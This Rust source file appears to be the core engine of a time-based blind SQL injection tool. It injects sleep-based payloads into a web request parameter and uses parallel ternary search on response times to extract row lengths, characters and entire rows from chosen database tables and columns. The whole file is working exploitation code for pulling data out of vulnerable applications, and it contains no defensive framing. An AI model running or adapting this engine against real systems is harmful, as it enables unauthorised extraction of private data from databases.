use std::cmp;
use std::collections::HashMap;
use std::sync::Arc;

use futures::future;
use tracing::{debug, info};

use crate::engine::defaults::{
    DEFAULT_MAX_CHAR, DEFAULT_MIN_CHAR, DEFAULT_THRESHOLD, DEFAULT_UNKNOWN_CHAR,
};
use crate::engine::payload::{columns_concat, PayloadBuilder};
use crate::error::Result;
use crate::web::request::Request;
use crate::web::target::Target;

/// Outcome of one ternary probe against a midpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reduction {
    /// Two or more predicates fired at once: noise. The bounds stay as they
    /// are and the next round retries the same range.
    Unchanged,
    /// No predicate fired. The three predicates cover every integer, so the
    /// selected expression evaluated to NULL: the value does not exist.
    Absent,
    /// The `=` predicate alone fired: the value is the midpoint.
    Found(i64),
    /// The `>` predicate alone fired: the value lies above the midpoint.
    Above(i64),
    /// The `<` predicate alone fired: the value lies below the midpoint.
    Below(i64),
}

/// The exploitation core: locates integers through the sleep oracle and
/// composes that primitive into character, row and table retrieval.
pub struct Engine<T: Target> {
    target: Arc<T>,
    params: HashMap<String, String>,
    builder: PayloadBuilder<T>,
    unknown_char: char,
}

impl<T: Target> Engine<T> {
    /// `params` are the default values for every request parameter; payloads
    /// replace one of them at a time.
    pub fn new(target: Arc<T>, params: HashMap<String, String>) -> Self {
        let builder = PayloadBuilder::new(target.clone(), DEFAULT_THRESHOLD);
        Self {
            target,
            params,
            builder,
            unknown_char: DEFAULT_UNKNOWN_CHAR,
        }
    }

    pub fn set_threshold(&mut self, threshold: f64) {
        self.builder.set_threshold(threshold);
    }

    pub fn threshold(&self) -> f64 {
        self.builder.threshold()
    }

    pub fn params(&self) -> &HashMap<String, String> {
        &self.params
    }

    pub async fn reference_resp_time(&mut self, default_request: &Request) -> Result<f64> {
        self.builder.reference_resp_time(default_request).await
    }

    pub async fn sleep_time(&mut self, default_request: &Request) -> Result<f64> {
        self.builder.sleep_time(default_request).await
    }

    /// Runs (or reuses) family selection for `param`. Succeeds iff the
    /// parameter is exploitable.
    pub async fn probe_param(
        &mut self,
        default_request: &Request,
        param: &str,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<()> {
        self.builder
            .test_payload(default_request, param, max_interval_ms, max_threads)
            .await
            .map(|_| ())
    }

    /// One ternary comparison against the midpoint of `[min_value,
    /// max_value]`: three concurrent requests whose predicates are `=`, `>`
    /// and `<`, classified by which of them tripped the sleep threshold.
    ///
    /// The payload must still contain the `{condition}` and `{value}`
    /// placeholders.
    async fn reduce_range(
        &self,
        default_request: &Request,
        param: &str,
        min_value: i64,
        max_value: i64,
        sqli_payload: &str,
        sleep_time_ms: f64,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<Reduction> {
        let mut mid_value = min_value + (max_value - min_value) / 2;
        // Plain bisection never probes the upper endpoint; promote the
        // midpoint so it gets tested too.
        if mid_value == min_value && min_value < max_value {
            mid_value = max_value;
        }
        debug!(
            "reducing range: (min={}, mid={}, max={})",
            min_value, mid_value, max_value
        );

        let requests: Vec<Request> = ["=", ">", "<"]
            .iter()
            .map(|condition| {
                let injected = sqli_payload
                    .replace("{condition}", condition)
                    .replace("{value}", &mid_value.to_string());
                let mut params = self.params.clone();
                params.insert(param.to_string(), injected);
                default_request.clone().set_params(params)
            })
            .collect();

        let response_times = self
            .target
            .response_times(requests, max_interval_ms, max_threads)
            .await?;
        debug!(
            "response times for partition ({}, {}, {}): {:?} (sleep time {:.2} ms)",
            min_value, mid_value, max_value, response_times, sleep_time_ms
        );

        let fired: Vec<bool> = response_times
            .iter()
            .map(|t| *t >= sleep_time_ms)
            .collect();
        let reduction = match fired.iter().filter(|f| **f).count() {
            n if n >= 2 => Reduction::Unchanged,
            0 => Reduction::Absent,
            _ if fired[0] => Reduction::Found(mid_value),
            _ if fired[1] => Reduction::Above(mid_value),
            _ => Reduction::Below(mid_value),
        };
        Ok(reduction)
    }

    /// Locates a value in `[min_value, max_value]` by running ternary probes
    /// in parallel over a partition of the range and merging the verdicts,
    /// until the value is found or the range empties.
    ///
    /// Returns `None` when the value does not exist (the predicates never
    /// held) or the range shrank to nothing.
    async fn get_value(
        &self,
        default_request: &Request,
        param: &str,
        min_value: i64,
        max_value: i64,
        sqli_payload: &str,
        sleep_time_ms: f64,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<Option<i64>> {
        // Budget: reserve enough of the request allowance for one probe's
        // three predicates, the rest becomes the partition pool.
        let inner_threads = if max_threads < 4 { 1 } else { 3 };
        let pool_size = cmp::max(1, max_threads.saturating_sub(inner_threads)) as i64;
        debug!(
            "partition pool size: {}, per-probe budget: {}",
            pool_size, inner_threads
        );

        let (mut min_value, mut max_value) = (min_value, max_value);
        let mut n_values = max_value - min_value + 1;

        while n_values > 0 {
            debug!(
                "current range: ({}, {}), {} candidates",
                min_value, max_value, n_values
            );

            // Never hand a worker an empty range: with fewer candidates than
            // workers the partition count drops to the candidate count.
            let n_partitions = cmp::min(pool_size, n_values);
            let partition_size = n_values / n_partitions;
            let partitions: Vec<(i64, i64)> = (0..n_partitions)
                .map(|i| {
                    let lo = min_value + partition_size * i;
                    let hi = if i == n_partitions - 1 {
                        // The last partition absorbs the remainder.
                        max_value
                    } else {
                        lo + partition_size - 1
                    };
                    (lo, hi)
                })
                .collect();
            debug!("current partitions: {:?}", partitions);

            let probes = partitions.iter().map(|&(lo, hi)| {
                self.reduce_range(
                    default_request,
                    param,
                    lo,
                    hi,
                    sqli_payload,
                    sleep_time_ms,
                    max_interval_ms,
                    inner_threads,
                )
            });
            let reductions = future::try_join_all(probes).await?;
            debug!("reduced ranges: {:?}", reductions);

            for reduction in &reductions {
                match reduction {
                    Reduction::Absent => {
                        debug!(
                            "value could not be found in range ({}, {})",
                            min_value, max_value
                        );
                        return Ok(None);
                    }
                    Reduction::Found(value) => {
                        debug!(
                            "found value '{}' in range ({}, {})",
                            value, min_value, max_value
                        );
                        return Ok(Some(*value));
                    }
                    _ => {}
                }
            }

            // Merge. The predicates are strict, so an `Above` verdict
            // excludes the midpoint itself and an inclusive bound would stall
            // on two-wide ranges; contradictions contribute nothing and the
            // range simply does not shrink that round.
            for reduction in &reductions {
                match reduction {
                    Reduction::Above(mid) => min_value = cmp::max(min_value, mid + 1),
                    Reduction::Below(mid) => max_value = cmp::min(max_value, mid - 1),
                    _ => {}
                }
            }
            n_values = max_value - min_value + 1;
        }

        Ok(None)
    }

    /// Fetches the character at `char_index` (1-based) of a row, or `None`
    /// when the position is vacant.
    #[allow(clippy::too_many_arguments)]
    pub async fn fetch_char(
        &mut self,
        default_request: &Request,
        param: &str,
        table: &str,
        columns: &[String],
        row_index: i64,
        char_index: i64,
        min_value: i64,
        max_value: i64,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<Option<char>> {
        let template = self
            .builder
            .fetch_char_payload(default_request, param, max_interval_ms, max_threads)
            .await?;
        let sleep_time_ms = self.builder.sleep_time(default_request).await?;
        let (column_name, _) = columns_concat(columns);

        let sqli_payload = template
            .replace("{column_name}", &column_name)
            .replace("{table_name}", table)
            .replace("{row_index}", &row_index.to_string())
            .replace("{char_index}", &char_index.to_string())
            .replace("{sleep_time}", &(sleep_time_ms / 1000.0).to_string());
        debug!("fetch-char payload: {}", sqli_payload);

        let value = self
            .get_value(
                default_request,
                param,
                min_value,
                max_value,
                &sqli_payload,
                sleep_time_ms,
                max_interval_ms,
                max_threads,
            )
            .await?;
        Ok(value.and_then(|v| u32::try_from(v).ok().and_then(char::from_u32)))
    }

    /// Fetches the length of a row, or `None` when the row does not exist.
    #[allow(clippy::too_many_arguments)]
    pub async fn fetch_row_length(
        &mut self,
        default_request: &Request,
        param: &str,
        table: &str,
        columns: &[String],
        row_index: i64,
        min_row_length: i64,
        max_row_length: i64,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<Option<i64>> {
        let template = self
            .builder
            .fetch_row_length_payload(default_request, param, max_interval_ms, max_threads)
            .await?;
        let sleep_time_ms = self.builder.sleep_time(default_request).await?;
        let (column_name, _) = columns_concat(columns);

        let sqli_payload = template
            .replace("{column_name}", &column_name)
            .replace("{table_name}", table)
            .replace("{row_index}", &row_index.to_string())
            .replace("{sleep_time}", &(sleep_time_ms / 1000.0).to_string());
        debug!("fetch-row-length payload: {}", sqli_payload);

        self.get_value(
            default_request,
            param,
            min_row_length,
            max_row_length,
            &sqli_payload,
            sleep_time_ms,
            max_interval_ms,
            max_threads,
        )
        .await
    }

    /// Fetches a whole row as a column-name → value map.
    ///
    /// Returns `None` when the row does not exist; a zero-length row maps
    /// every column to the empty string. Characters the oracle could not
    /// resolve become the replacement character.
    #[allow(clippy::too_many_arguments)]
    pub async fn fetch_row(
        &mut self,
        default_request: &Request,
        param: &str,
        table: &str,
        columns: &[String],
        row_index: i64,
        min_row_length: i64,
        max_row_length: i64,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<Option<HashMap<String, String>>> {
        self.probe_param(default_request, param, max_interval_ms, max_threads)
            .await?;

        let row_length = self
            .fetch_row_length(
                default_request,
                param,
                table,
                columns,
                row_index,
                min_row_length,
                max_row_length,
                max_interval_ms,
                max_threads,
            )
            .await?;

        let mut row: HashMap<String, String> = columns
            .iter()
            .map(|column| (column.clone(), String::new()))
            .collect();
        let row_length = match row_length {
            None => return Ok(None),
            Some(0) => return Ok(Some(row)),
            Some(length) => length,
        };
        info!("row {} has length {}", row_index, row_length);

        let mut row_value = String::new();
        for char_index in 1..=row_length {
            let fetched = self
                .fetch_char(
                    default_request,
                    param,
                    table,
                    columns,
                    row_index,
                    char_index,
                    DEFAULT_MIN_CHAR,
                    DEFAULT_MAX_CHAR,
                    max_interval_ms,
                    max_threads,
                )
                .await?
                .unwrap_or(self.unknown_char);
            row_value.push(fetched);
            info!(
                "found char {} (position={}/{}, row={})",
                fetched, char_index, row_length, row_index
            );
        }

        let (_, separator) = columns_concat(columns);
        for (column, value) in columns.iter().zip(row_value.split(separator)) {
            row.insert(column.clone(), value.to_string());
        }
        Ok(Some(row))
    }
}
